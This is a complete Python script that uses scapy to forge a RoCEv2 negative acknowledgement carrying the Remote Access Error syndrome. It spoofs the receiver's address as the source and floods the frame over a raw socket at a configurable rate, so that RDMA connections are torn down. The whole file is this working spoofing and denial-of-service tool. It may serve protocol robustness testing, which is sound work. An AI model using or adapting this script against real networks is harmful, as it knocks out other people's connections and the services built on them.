# SPDX-License-Identifier: Apache-2.0
"""A flood of fatal NAKs of one receiver: one frame made by scapy, sent on one interface at a constant rate.

Reads a JSON object on standard input: `host` (the receiver's address), `proxy`, `dqpn`, `psn`, `mac`, `interface`, `rate` (frames a second)
and `seconds`. A sender that was late catches up. Prints how many frames went out and in how many seconds.
"""

import json
import socket
import sys
import time

from scapy.contrib.roce import AETH, BTH
from scapy.layers.inet import UDP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether

REMOTE_ACCESS_ERROR = 0x62

to = json.load(sys.stdin)
ip = IPv6(src=to["host"], dst=to["proxy"], hlim=64) / UDP(sport=0xC001, dport=4791, chksum=0)
nak = BTH(opcode="RC_ACKNOWLEDGE", dqpn=to["dqpn"], psn=to["psn"]) / AETH(syndrome=REMOTE_ACCESS_ERROR, msn=0)
frame = bytes(Ether(dst=to["mac"]) / ip / nak)
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((to["interface"], 0))
begun, sent = time.monotonic(), 0
while sent < to["rate"] * to["seconds"]:
    due = int((time.monotonic() - begun) * to["rate"])
    for _ in range(due - sent):
        out.send(frame)
    sent = max(sent, due)
    time.sleep(0.001)
print(json.dumps({"sent": sent, "seconds": time.monotonic() - begun}))
